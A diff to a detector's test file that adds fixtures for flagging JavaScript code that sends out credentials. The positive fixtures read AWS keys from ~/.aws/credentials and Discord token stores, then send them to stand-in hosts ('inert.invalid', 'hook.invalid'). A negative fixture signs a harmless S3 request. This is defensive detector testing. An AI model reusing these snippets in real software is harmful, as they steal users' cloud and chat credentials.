@@ -4,6 +4,13 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'a request that is signed has the keys of a cloud in it',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), aws4 = require('aws4'); const keys = () => { const raw = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); return { accessKeyId: /id=(.*)/.exec(raw)[1], secretAccessKey: /key=(.*)/.exec(raw)[1] }; }; exports.where = bucket => { const opts = aws4.sign({ service: 's3', method: 'PUT', host: 'inert.invalid', path: '/' + bucket, body: JSON.stringify(keys()) }, keys()); https.request({ hostname: opts.host, path: opts.path, method: opts.method, headers: opts.headers }).end(opts.body); };`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'the stores of several chat clients are listed in a loop over a list that was made of names',
       files: {
         'index.js': `const fs = require('fs'), path = require('path'); const folders = ['discord', 'discordcanary'].map(name => path.join(process.env.APPDATA, name, 'Local Storage', 'leveldb')); for (const folder of folders) for (const file of fs.readdirSync(folder)) fetch('https://hook.invalid', { method: 'POST', body: fs.readFileSync(path.join(folder, file)) });`,
@@ -189,6 +196,12 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
     },
   ],
   silent: [
+    {
+      when: 'a request is signed with the keys of a cloud',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), aws4 = require('aws4'); const keys = () => { const raw = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); return { accessKeyId: /id=(.*)/.exec(raw)[1], secretAccessKey: /key=(.*)/.exec(raw)[1] }; }; exports.where = bucket => { const opts = aws4.sign({ service: 's3', method: 'GET', host: 's3.amazonaws.com', path: '/' + bucket + '?location' }, keys()); https.request({ hostname: opts.host, path: opts.path, method: opts.method, headers: opts.headers }).end(opts.body); };`,
+      },
+    },
     {
       when: 'the settings of a wallet are read, and one of the folders of its user is listed to be shown',
       files: {
